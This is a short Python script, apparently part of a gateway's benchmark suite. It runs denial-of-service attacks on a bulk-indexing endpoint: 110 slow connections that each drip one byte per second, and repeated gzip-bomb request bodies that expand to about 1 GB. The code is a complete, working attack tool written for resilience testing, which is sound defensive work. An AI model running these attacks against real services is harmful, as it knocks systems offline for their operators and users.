"""Attackers of the gateway's benchmark: slow connections and packed bodies from one address, as a process of its own.

    python benchmarks/slow_streams.py ADDRESS INDEX < BODY

Without a body on standard input it holds slow connections; else it sends that body, which is packed, again and again.
"""

import asyncio
import sys
import zlib
from collections.abc import Callable, Mapping
from urllib.parse import urlsplit

SLOW = 110  # connections at the same time


def packed(line: bytes, size: int) -> bytes:
    """Pack a line that is repeated up to a size."""
    packer, piece = zlib.compressobj(9, wbits=31), line * (1_000_000 // len(line))
    return b"".join(packer.compress(piece) for _ in range(size // len(piece))) + packer.flush()


def head(index: str, length: int, *more: str) -> bytes:
    """Write the head of a `_bulk` request."""
    lines = [f"POST /{index}/_bulk HTTP/1.1", "host: 127.0.0.1", "content-type: application/x-ndjson", *more]
    return "\r\n".join([*lines, f"content-length: {length}", "", ""]).encode()


async def drip(host: str, port: int, index: str) -> None:
    """Send a long body byte by byte, again and again."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(head(index, 1_000_000))
            while not reader.at_eof() and not writer.is_closing():
                writer.write(b"\n")
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            await asyncio.sleep(0.1)


async def drip_many(host: str, port: int, index: str) -> None:
    """Hold many slow connections."""
    await asyncio.gather(*[drip(host, port, index) for _ in range(SLOW)])


async def send_again(host: str, port: int, index: str, body: bytes) -> None:
    """Send a packed body five times a second."""
    content = head(index, len(body), "content-encoding: gzip", "connection: close") + body
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(content)
            await reader.read()
            writer.close()
        except OSError:
            pass
        await asyncio.sleep(0.2)


# What makes the body of each attack.
ATTACKS: Mapping[str, Callable[[], bytes]] = {
    f"{SLOW} slow connections": bytes,
    "1 GB of packed empty lines": lambda: packed(b"\n", 1_000_000_000),
    "151 KB of packed deletes": lambda: packed(b'{"delete":{"_id":"1"}}\n', 62_000_000),
}

if __name__ == "__main__":
    where, content = urlsplit(sys.argv[1]), sys.stdin.buffer.read()
    to = (where.hostname or "", where.port or 0, sys.argv[2])
    asyncio.run(send_again(*to, content) if content else drip_many(*to))
